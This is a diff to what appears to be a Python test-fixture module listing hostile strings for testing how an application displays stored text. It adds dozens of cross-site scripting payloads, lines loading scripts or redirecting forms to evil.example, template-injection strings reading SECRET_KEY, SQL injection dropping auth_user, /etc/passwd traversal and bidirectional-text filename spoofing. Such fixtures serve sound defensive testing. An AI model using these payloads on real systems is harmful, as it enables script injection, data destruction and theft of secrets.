@@ -1,4 +1,4 @@
-"""Fifty texts that somebody might store to harm whoever looks at them."""
+"""Texts that somebody might store to harm whoever looks at them, on a screen or in a file."""
 
 from __future__ import annotations
 
@@ -27,15 +27,52 @@ FORMULAS = (
 APOSTROPHES = ("'", "'=1+1", "''", "'text")
 MARKUP = (
     "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><button>",
+    "<object data=data:text/html,<script>alert(1)</script>>",
+    "<template><script>alert(1)</script></template>",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "</pre><script>alert(1)</script><pre>",
+    "</td></tr></table><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</details></summary><img src=x onerror=alert(1)>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)//",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "{{ settings.SECRET_KEY }}",
+    "{% debug %}{% load static %}",
+    "{% include 'admin/base.html' %}",
+    "${alert(1)} #{7*7} <%= 7*7 %>",
+    "%(count)s %s {0} {0.__class__}",
     "</pre><svg onload=alert(1)>",
     "\"><b onmouseover='alert(1)'>",
-    "javascript:alert(1)",
-    "{{ 7*7 }}",
-    "{% debug %}",
-    "${7*7}",
-    "&lt;script&gt;",
 )
 SEPARATORS = (
     'a","=1+1","',
@@ -49,8 +86,27 @@ SEPARATORS = (
     "a\\",
     '\\",',
 )
-TERMINAL = ("\u202eevil", "\u2066x\u2069", "\u200b", "a\u0301\u0301\u0301", "\ufeff")
-OTHER = ("%s%n", "' OR 1=1 --")
+TERMINAL = (
+    "\u202eevil",
+    "\u2066x\u2069",
+    "\u200b",
+    "a\u0301\u0301\u0301",
+    "\ufeff",
+    "user\u202egpj.exe",
+    "\u2066\u2067admin\u2069",
+    "z\u0300\u0301\u0302\u0303\u0304" * 20,
+    "\ufeff\u200b\u2028\u2029",
+    "\U000e0001\U000e0041\ue000\uffff",
+    "\u00a0 \u3000",
+)
+OTHER = (
+    "%s%n",
+    "' OR 1=1 --",
+    "../../../../etc/passwd",
+    "'; DROP TABLE auth_user; --",
+    "ＳＣＲＩＰＴ＜script＞",
+    "<" * 200,
+)
 TEXTS = (*FORMULAS, *APOSTROPHES, *MARKUP, *SEPARATORS, *TERMINAL, *OTHER)
 # No key may have these, but a value, a user's name or a webhook's title may.
 CONTROLS = ("\t=1+1", "\r=1+1", "\n=1+1", "\x1b[31mred", "\x9b31mred", "\x07", "a\r\nb")
